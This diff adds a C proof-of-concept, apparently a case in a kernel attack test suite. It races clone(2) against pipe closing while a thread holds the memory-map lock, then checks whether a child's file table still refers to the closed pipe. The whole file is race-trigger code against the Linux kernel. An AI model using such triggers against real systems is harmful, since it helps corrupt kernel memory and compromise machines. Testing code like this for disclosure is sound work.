@@ -1,0 +1,82 @@
+/* A pipe that nothing holds but the table of a child which is being made: its parent sleeps in clone(2), behind the lock of its
+ * memory map, while dead pairs are looked for; the child then sends another byte.
+ */
+#include "../attack.h"
+
+enum { PIPES = 2044, REST = 60 };
+
+struct shared {
+    volatile int locked, making, closed, won;
+};
+
+static struct shared *s;
+static int p[2];
+static char *zeros;
+static const size_t SIZE = (size_t)6 << 30;
+
+/* Holds the lock for a good while: a look at each of many pages. */
+static void *lock(void *unused)
+{
+    s->locked = 1;
+    madvise(zeros, SIZE, 22 /* MADV_POPULATE_READ */);
+    s->locked = 2;
+    return unused;
+}
+
+static void *make(void *unused)
+{
+    while (!s->locked)
+        ;
+    usleep(5000);
+    s->making = 1;
+    if (syscall(SYS_clone, SIGCHLD, NULL, NULL, NULL, NULL) == 0) {
+        usleep(1000);
+        write(p[1], "B", 1);
+        s->won = foreign(p[0], 0);
+        _exit(0);
+    }
+    return unused;
+}
+
+static void make_pipes(int count)
+{
+    int q[2];
+    for (int i = 0; i < count; i++) {
+        pipe(q);
+        close(q[0]), close(q[1]);
+    }
+}
+
+int main(void)
+{
+    pthread_t maker, locker;
+    s = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+    pid_t other = fork();
+    if (!other) {
+        make_pipes(PIPES);
+        s->closed = -1;
+        while (s->closed != 1)
+            usleep(100);
+        make_pipes(REST);
+        _exit(0);
+    }
+    zeros = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+    madvise(zeros, SIZE, MADV_NOHUGEPAGE);
+    zeros[0] = 1;
+    while (!s->closed)
+        usleep(1000);
+    pipe2(p, O_NONBLOCK);
+    write(p[1], "A", 1);
+    pthread_create(&maker, NULL, make, NULL);
+    pthread_create(&locker, NULL, lock, NULL);
+    while (!s->making)
+        ;
+    usleep(5000);
+    close(p[0]), close(p[1]);
+    s->closed = 1;
+    pthread_join(maker, NULL);
+    pthread_join(locker, NULL);
+    wait(NULL);
+    wait(NULL);
+    end(s->won, "the child's pipe was still known");
+}
